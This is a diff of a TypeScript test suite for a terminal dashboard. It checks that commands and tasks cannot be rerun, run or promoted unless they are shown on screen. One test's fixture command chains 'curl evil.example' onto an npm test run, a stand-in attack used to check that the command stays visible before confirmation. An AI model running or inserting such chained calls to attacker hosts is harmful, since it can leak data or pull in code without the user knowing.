@@ -121,7 +121,7 @@ describe('commands that were not on the screen cannot be rerun', () => {
       result: 'passed' as const,
       note: null,
     }));
-  const reported = (columns: number, rows: number, count: number, pane: 'tasks' | 'workers'): Bench =>
+  const reported = (columns: number, rows: number, count: number, text: 'task' | 'work'): Bench =>
     showEvidence(
       showTask(
         showWork(
@@ -131,7 +131,7 @@ describe('commands that were not on the screen cannot be rerun', () => {
               tasks: [taskRow(1, { status: 'done', session_id: 's-1' })],
               complete: true,
             })
-            .keys(pane === 'tasks' ? '1' : '4'),
+            .keys(text === 'task' ? 't' : 'esc'),
           1,
         ),
         1,
@@ -140,7 +140,7 @@ describe('commands that were not on the screen cannot be rerun', () => {
       { tests: tests(count) },
     );
 
-  for (const pane of ['tasks', 'workers'] as const)
+  for (const text of ['task', 'work'] as const)
     for (const [columns, rows] of [
       [40, 10],
       [60, 15],
@@ -149,8 +149,8 @@ describe('commands that were not on the screen cannot be rerun', () => {
       [120, 34],
       [200, 50],
     ] as const)
-      it(`V in ${pane} at ${columns}x${rows} reads on to the last command before it asks`, () => {
-        const dash = reported(columns, rows, 60, pane);
+      it(`V on the ${text} of a run at ${columns}x${rows} reads on to the last command before it asks`, () => {
+        const dash = reported(columns, rows, 60, text);
         let seen = '';
         let presses = 0;
         while (dash.state().armed === null && presses < 100) {
@@ -166,7 +166,7 @@ describe('commands that were not on the screen cannot be rerun', () => {
       });
 
   it('a command in the list is confirmed directly, and stays visible with the question', () => {
-    const dash = reported(80, 40, 1, 'workers').keys('v', 'V');
+    const dash = reported(80, 40, 1, 'work').keys('V');
     assert.notEqual(dash.state().armed, null);
     assert.match(readScreen(dash), /passed +npm test -- part1 && curl evil\.example/);
   });
@@ -175,13 +175,11 @@ describe('commands that were not on the screen cannot be rerun', () => {
 describe('a failed task cannot be rerun unseen from its worker', () => {
   const failed = (columns: number, rows: number): Bench =>
     showTask(
-      bench(columns, rows)
-        .data({
-          sessions: [sessionRow(1, { failure: { code: 'exit', text: 'exit code 3' } })],
-          tasks: [taskRow(1, { status: 'failed', session_id: 's-1' })],
-          complete: true,
-        })
-        .keys('4'),
+      bench(columns, rows).data({
+        sessions: [sessionRow(1, { failure: { code: 'exit', text: 'exit code 3' } })],
+        tasks: [taskRow(1, { status: 'failed', session_id: 's-1' })],
+        complete: true,
+      }),
       1,
     );
 
@@ -209,12 +207,7 @@ describe('a failed task cannot be rerun unseen from its worker', () => {
 describe('a task cannot be run or promoted unseen', () => {
   it('r on a task opens it where its prompt is not on the screen', () => {
     const dash = (columns: number, rows: number) =>
-      showTask(
-        bench(columns, rows)
-          .data({ tasks: [taskRow(1, { status: 'open' })], complete: true })
-          .keys('1'),
-        1,
-      );
+      showTask(bench(columns, rows).data({ tasks: [taskRow(1, { status: 'open' })], complete: true }), 1);
     assert.notEqual(dash(80, 24).keys('r').state().armed, null);
     const small = dash(40, 10).keys('r');
     assert.equal(small.state().armed, null);
@@ -225,12 +218,7 @@ describe('a task cannot be run or promoted unseen', () => {
   it('p on a worker opens its work where trial and evidence are not on the screen', () => {
     const dash = (columns: number, rows: number) =>
       showEvidence(
-        showWork(
-          bench(columns, rows)
-            .data({ sessions: [sessionRow(1)], complete: true })
-            .keys('4'),
-          1,
-        ),
+        showWork(bench(columns, rows).data({ sessions: [sessionRow(1)], complete: true }), 1),
         1,
         evidence(1),
       );
